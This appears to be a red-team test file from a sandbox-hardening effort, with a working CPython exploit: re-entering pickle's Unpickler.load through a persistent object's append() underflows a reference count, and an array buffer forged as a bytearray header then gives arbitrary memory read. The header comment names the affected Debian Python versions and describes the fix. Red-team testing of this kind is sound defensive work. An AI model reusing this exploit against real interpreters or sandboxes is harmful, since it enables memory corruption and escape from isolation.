# Red team round 21 (CPython gh-143638, Debian bookworm's 3.11.2 and trixie's 3.13.5): Unpickler.load can be
# re-entered on the same unpickler from the test's code it calls. The outer load gets an object from
# persistent_load and runs APPENDS on it; with no extend(), each item goes to its append(), which calls
# load() again on the same stream. The inner load empties the shared stack and returns a bytes(20) R,
# leaving R's pointer in the stack's first slot; the outer load then restores the stack's size, and its
# STOP pops R a second time, with no reference of its own. So R has one reference fewer than its holders:
# dropping one frees R's block (the 64-byte class) while the list the inner result went to still points at
# it. An array's item buffer of exactly 64 bytes takes the block, and the array's items are written as an
# empty bytearray's header (length 2**62, data pointer NULL): through the list, `mem[x]` reads address x.
# Then _common.py. Offsets are 3.11's (x86-64).
# Closed: _r2e_kernel.harden_type with verifier_kernel's `_REENTRY` table: Unpickler.load is exclusive on
# its object and scoped, so the load from append() is refused; assigning an unpickler's memo inside that
# scope is refused too.
# (After reentry/_prelude.py: `f` and `touch`.)
import array
import io
import pickle

# outer: PROTO 2, persistent id 0, MARK, 5, APPENDS | inner: PROTO 2, a bytes(20), STOP | outer: STOP
STREAM = b"\x80\x02K\x00Q(K\x05e" + b"\x80\x02C\x14" + b"R" * 20 + b"." + b"."
HEADER = b"".join(v.to_bytes(8, "little") for v in (1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0, 0))
KEEP = []


def reader():
    inner = []
    up = pickle.Unpickler(io.BytesIO(STREAM))

    class Appender:
        def append(self, item):
            inner.append(up.load())

    up.persistent_load = lambda pid: Appender()
    twice = up.load()
    assert twice is inner[0]
    block = id(twice)
    del twice  # the count reaches 0: R's block is freed, inner[0] still points at it
    for _ in range(4000):
        a = array.array('B', bytes(1)) * 64
        KEEP.append(a)
        if a.buffer_info()[0] == block:
            a[:] = array.array('B', HEADER)
            mem = inner[0]
            assert type(mem) is bytearray and len(mem) == 1 << 62
            return mem
    raise RuntimeError("R's block was not reused")


def test_structure():
    assert_structure(reader())
